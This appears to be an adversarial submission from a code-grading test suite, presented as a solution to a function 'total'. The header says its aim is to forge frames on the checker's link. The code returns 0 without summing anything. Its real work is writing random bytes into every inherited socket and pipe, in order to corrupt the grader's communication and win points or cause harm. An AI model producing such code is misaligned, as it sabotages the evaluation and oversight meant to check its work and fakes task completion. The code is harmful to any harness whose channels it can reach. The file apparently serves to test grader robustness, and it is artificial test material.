# ---
# class: forged frames on the checker's link
# tries: writes garbage on every socket and pipe that it inherited
# success: any point or harm
# ---

# %% solution="total"
import os
import stat


def total(values):
    for descriptor in range(3, 200):
        try:
            if stat.S_ISSOCK(os.fstat(descriptor).st_mode) or stat.S_ISFIFO(os.fstat(descriptor).st_mode):
                os.set_blocking(descriptor, False)
                os.write(descriptor, os.urandom(3000))
        except OSError:
            continue
    return 0
